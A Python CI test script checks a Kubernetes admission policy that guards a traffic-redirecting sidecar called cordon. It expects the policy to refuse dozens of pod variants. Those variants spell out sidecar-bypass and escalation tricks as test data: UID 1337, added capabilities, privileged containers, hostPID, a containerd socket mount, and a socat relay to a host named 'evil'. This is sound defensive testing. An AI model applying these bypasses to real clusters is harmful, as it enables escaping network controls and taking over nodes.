"""Evaluate deploy/kubernetes/admission/policy.yaml's CEL (with cel-python) the way the API server does: the
match conditions, then the variables in order, then every validation; one ok/FAIL line per case.

    python3 .ci/admission-check.py deploy/kubernetes
"""
import copy
import sys

import celpy
import yaml

deploy = sys.argv[1]
policy = next(d for d in yaml.safe_load_all(open(f"{deploy}/admission/policy.yaml"))
              if d and d["kind"] == "ValidatingAdmissionPolicy")["spec"]
env = celpy.Environment()


def compiled(expression):
    return env.program(env.compile(expression))


match = [compiled(m["expression"]) for m in policy["matchConditions"]]
variables = [(v["name"], compiled(v["expression"])) for v in policy["variables"]]
validations = [compiled(v["expression"]) for v in policy["validations"]]


def activation(pod, bound):
    act = celpy.json_to_cel({"object": pod})
    act["variables"] = celpy.celtypes.MapType(bound)
    return act


def admitted(pod):
    if not all(bool(m.evaluate(activation(pod, {}))) for m in match):
        return True
    bound = {}
    for name, program in variables:
        bound[celpy.celtypes.StringType(name)] = program.evaluate(activation(pod, bound))
    return all(bool(v.evaluate(activation(pod, bound))) for v in validations)


docs = [d for d in yaml.safe_load_all(open(f"{deploy}/sidecar/deployment.yaml")) if d]
shipped = {"spec": docs[0]["spec"]["template"]["spec"]}
failures = 0


def case(name, pod, want):
    global failures
    got = admitted(pod)
    failures += got != want
    print(f"{'ok  ' if got == want else 'FAIL'} admission: {name}: {'admitted' if got else 'refused'}")


def variant(change):
    pod = copy.deepcopy(shipped)
    change(pod["spec"])
    return pod


def app(spec):
    return next(c for c in spec["containers"] if c["name"] == "app")


def pod_user(spec, uid):
    app(spec)["securityContext"].pop("runAsUser")
    spec.setdefault("securityContext", {})["runAsUser"] = uid


def busybox(name, uid, hardened=True):
    """A container as `uid`; `hardened`: as the shipped app is (no escalation, every capability dropped), so that
    only its UID can be why it is refused."""
    context = {"runAsUser": uid}
    if hardened:
        context.update(allowPrivilegeEscalation=False, capabilities={"drop": ["ALL"]})
    return {"name": name, "image": "busybox", "securityContext": context}


case("the shipped sidecar pod", shipped, True)
case("the app as UID 1337", variant(lambda s: app(s)["securityContext"].update(runAsUser=1337)), False)
case("the app with no runAsUser (its image decides)",
     variant(lambda s: app(s)["securityContext"].pop("runAsUser")), False)
case("the pod's runAsUser 1337, inherited by the app", variant(lambda s: pod_user(s, 1337)), False)
case("the pod's runAsUser 1000, inherited by the app", variant(lambda s: pod_user(s, 1000)), True)
case("a second container as UID 1337", variant(lambda s: s["containers"].append(busybox("helper", 1337))), False)
case("another init container as UID 1337",
     variant(lambda s: s["initContainers"].insert(1, busybox("setup", 1337))), False)
case("a hardened init container as UID 1000 after cordon-redirect",
     variant(lambda s: s["initContainers"].insert(1, busybox("setup", 1000))), True)
case("a hardened init container as UID 1000 before cordon-redirect (it runs before the rules exist)",
     variant(lambda s: s["initContainers"].insert(0, busybox("setup", 1000))), False)
case("an ephemeral debug container as UID 1337",
     variant(lambda s: s.setdefault("ephemeralContainers", []).append(busybox("debugger", 1337))), False)
case("a regular container named cordon as UID 1337",
     variant(lambda s: s["containers"].append(busybox("cordon", 1337))), False)
def sc(change):
    return variant(lambda s: change(app(s)["securityContext"]))


case("the app with CAP_SETUID added", sc(lambda c: c["capabilities"].update(add=["SETUID"])), False)
case("the app with cap_setuid added (any case, CAP_ prefix)",
     sc(lambda c: c["capabilities"].update(add=["cap_setuid"])), False)
case("the app with NET_RAW added", sc(lambda c: c["capabilities"].update(add=["NET_RAW"])), False)
case("the app with NET_ADMIN added", sc(lambda c: c["capabilities"].update(add=["NET_ADMIN"])), False)
case("the app with SYS_PTRACE added", sc(lambda c: c["capabilities"].update(add=["SYS_PTRACE"])), False)
case("the app with ALL added", sc(lambda c: c["capabilities"].update(add=["ALL"])), False)
case("the app dropping nothing (the runtime's defaults: SETUID, SETGID, NET_RAW)",
     sc(lambda c: c.pop("capabilities")), False)
case("the app dropping only NET_ADMIN", sc(lambda c: c["capabilities"].update(drop=["NET_ADMIN"])), False)
case("the app with a harmless capability added (NET_BIND_SERVICE)",
     sc(lambda c: c["capabilities"].update(add=["NET_BIND_SERVICE"])), True)
case("the app with allowPrivilegeEscalation left at its default (true)",
     sc(lambda c: c.pop("allowPrivilegeEscalation")), False)
case("the app with allowPrivilegeEscalation: true", sc(lambda c: c.update(allowPrivilegeEscalation=True)), False)
case("the app privileged", sc(lambda c: c.update(privileged=True)), False)
case("the pod on hostNetwork", variant(lambda s: s.update(hostNetwork=True)), False)
case("a second container that keeps the default capabilities",
     variant(lambda s: s["containers"].append(busybox("helper", 1000, hardened=False))), False)
case("a second hardened container as UID 1000", variant(lambda s: s["containers"].append(busybox("helper", 1000))), True)
case("a pod without the sidecar (not this policy's business)", {"spec": {"containers": [busybox("x", 1337)]}}, True)


def own(spec, name):
    return next(c for c in spec["initContainers"] if c["name"] == name)


def named_like_cordon(name, change):
    """The shipped pod with cordon's own init container `name` changed: trusted by its name only as shipped."""
    return variant(lambda s: change(own(s, name)))


# A name is no credential: a container bearing one of cordon's names must have that container's shape.
case("cordon-prepare as a native sidecar (restartPolicy: Always) as UID 1337",
     named_like_cordon("cordon-prepare", lambda c: c.update(restartPolicy="Always")), False)
case("cordon-prepare adding NET_ADMIN",
     named_like_cordon("cordon-prepare", lambda c: c["securityContext"]["capabilities"].update(add=["NET_ADMIN"])),
     False)
case("cordon-prepare as UID 1000", named_like_cordon("cordon-prepare", lambda c: c["securityContext"].update(runAsUser=1000)),
     False)
case("cordon-prepare on another image", named_like_cordon("cordon-prepare", lambda c: c.update(image="busybox")), False)
case("cordon-prepare dropping nothing",
     named_like_cordon("cordon-prepare", lambda c: c["securityContext"].pop("capabilities")), False)
case("cordon-prepare with allowPrivilegeEscalation: true",
     named_like_cordon("cordon-prepare", lambda c: c["securityContext"].update(allowPrivilegeEscalation=True)), False)
case("cordon-redirect as UID 1337",
     named_like_cordon("cordon-redirect", lambda c: c["securityContext"].update(runAsUser=1337)), False)
case("cordon-redirect adding SYS_ADMIN",
     named_like_cordon("cordon-redirect", lambda c: c["securityContext"]["capabilities"]["add"].append("SYS_ADMIN")),
     False)
case("cordon-redirect privileged", named_like_cordon("cordon-redirect", lambda c: c["securityContext"].update(privileged=True)),
     False)
case("cordon-redirect as a native sidecar (it would keep NET_ADMIN running beside the app)",
     named_like_cordon("cordon-redirect", lambda c: c.update(restartPolicy="Always")), False)
case("cordon-redirect not first (another init container of cordon's before it)",
     variant(lambda s: s["initContainers"].insert(0, s["initContainers"].pop(1))), False)
case("cordon with its command replaced (a shell as UID 1337)",
     named_like_cordon("cordon", lambda c: c.update(command=["/bin/sh", "-c", "socat TCP-LISTEN:15001,fork TCP:evil:443"])),
     False)
case("cordon running something other than `cordon run`",
     named_like_cordon("cordon", lambda c: c.update(args=["jail", "--", "sh"])), False)
case("cordon not the native sidecar", named_like_cordon("cordon", lambda c: c.pop("restartPolicy")), False)
case("cordon adding NET_RAW",
     named_like_cordon("cordon", lambda c: c["securityContext"]["capabilities"].update(add=["NET_RAW"])), False)
case("cordon as UID 1000 (its traffic would be redirected to itself)",
     named_like_cordon("cordon", lambda c: c["securityContext"].update(runAsUser=1000)), False)
# The pod's own ways around the sidecar.
case("the pod with hostPID", variant(lambda s: s.update(hostPID=True)), False)
case("the pod with hostIPC", variant(lambda s: s.update(hostIPC=True)), False)
case("the pod with shareProcessNamespace (the app sees cordon's process)",
     variant(lambda s: s.update(shareProcessNamespace=True)), False)
case("the pod with hostPID: false, hostIPC: false, shareProcessNamespace: false",
     variant(lambda s: s.update(hostPID=False, hostIPC=False, shareProcessNamespace=False)), True)
case("the pod with a hostPath volume (the container runtime's socket)",
     variant(lambda s: s["volumes"].append({"name": "runtime", "hostPath": {"path": "/run/containerd/containerd.sock"}})),
     False)
case("the pod with a hostPath volume the app does not mount",
     variant(lambda s: s["volumes"].append({"name": "node", "hostPath": {"path": "/", "type": "Directory"}})), False)
sys.exit(1 if failures else 0)
